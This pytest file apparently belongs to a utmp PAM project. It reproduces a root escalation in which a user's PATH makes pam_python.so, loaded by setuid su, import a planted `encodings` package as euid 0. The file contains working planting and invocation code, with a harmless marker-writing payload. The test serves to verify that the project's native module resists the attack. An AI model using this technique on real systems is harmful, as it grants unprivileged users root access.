"""Whose code runs as root when an ordinary user runs su: the loader decides.

pam_python.so starts its interpreter without a fixed prefix: Python looks for its
standard library next to the first `python3` on the caller's PATH.  A user who runs
su (setuid root) with PATH pointing at a directory of their own makes it import their
`encodings` package, as euid 0, before any code of the module.  pam_pyutmp.so fixes
sys.path when it is built; the same attack does nothing there.  Real su, real libpam,
the sandbox's own pam.d and users."""

from __future__ import annotations

import os
import shutil
import sysconfig
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from .sandbox import DEAD_PROCESS, USER_PROCESS, Sandbox, User, dump

# Anyone may su to anyone here: the attack needs no password, only a session.
SU_STACK = ("auth sufficient pam_permit.so\naccount required pam_permit.so\n"
            "session required pam_permit.so\n")
PAYLOAD = '''\
import posix as _posix
_fd = _posix.open({marker!r}, _posix.O_WRONLY | _posix.O_CREAT | _posix.O_TRUNC, 0o644)
_posix.write(_fd, str(_posix.geteuid()).encode())
_posix.close(_fd)
'''


def plant_prefix(prefix: Path, marker: Path) -> None:
    """What the user prepares: PREFIX/bin/python3 (any executable) and PREFIX/lib/pythonX.Y
    holding links to the real standard library, but for an `encodings` package that runs
    the payload first."""
    stdlib = Path(sysconfig.get_paths()["stdlib"])  # /usr/bin/python3's, as the tests run it
    (prefix / "bin").mkdir(parents=True)
    (prefix / "bin" / "python3").write_text("#!/bin/sh\n")
    (prefix / "bin" / "python3").chmod(0o755)
    lib = prefix / "lib" / stdlib.name
    lib.mkdir(parents=True)
    for entry in stdlib.iterdir():
        if entry.name != "encodings":
            (lib / entry.name).symlink_to(entry)
    shutil.copytree(stdlib / "encodings", lib / "encodings", symlinks=True,
                    ignore=shutil.ignore_patterns("__pycache__"))
    init = lib / "encodings" / "__init__.py"
    init.write_text(PAYLOAD.format(marker=str(marker)) + init.read_text())


@pytest.fixture
def attacker_dir() -> Iterator[Path]:
    """A directory of the attacking user's, where every user may look (/tmp)."""
    path = Path(tempfile.mkdtemp(prefix="pyutmp-attack-", dir="/tmp"))
    try:
        path.chmod(0o755)
        yield path
    finally:
        shutil.rmtree(path)


def su_with_planted_path(box: Sandbox, attacker: User, target: User, home: Path,
                         marker: Path) -> int:
    """The attacking user runs `su TARGET -c true` with PATH leading to the planted prefix."""
    plant_prefix(home / "py", marker)
    for path in (home, *home.rglob("*")):
        os.lchown(path, attacker.uid, attacker.gid)
    box.service("su", SU_STACK + box.module_line())
    done = box.run(["setpriv", f"--reuid={attacker.uid}", f"--regid={attacker.gid}",
                    "--clear-groups", "env", "-i", f"PATH={home}/py/bin:/usr/bin:/bin",
                    f"HOME={attacker.home}", "su", target.name, "-c", "true"])
    return done.returncode


@pytest.mark.parametrize("loader", ["pam_python", "native"])
def test_a_users_path_chooses_the_code_su_runs_as_root_only_with_pam_python(
        sandbox: Sandbox, attacker_dir: Path, loader: str) -> None:
    """With pam_python.so the user's `encodings` runs inside su with euid 0 (what
    `pyutmp doctor` reports as a root escalation); with pam_pyutmp.so it never runs, and
    the session is recorded as any other."""
    attacker, target = sandbox.add_user("mallory"), sandbox.add_user("alice")
    marker = attacker_dir / "ran-as"

    status = su_with_planted_path(sandbox, attacker, target, attacker_dir, marker)

    if loader == "pam_python":
        assert marker.read_text() == "0"  # the user's code, as root
    else:
        assert status == 0
        assert not marker.exists()
        wtmp = dump(sandbox, "/var/log/wtmp")
        assert [(r.type, r.user) for r in wtmp] == [(USER_PROCESS, "alice"), (DEAD_PROCESS, "")]
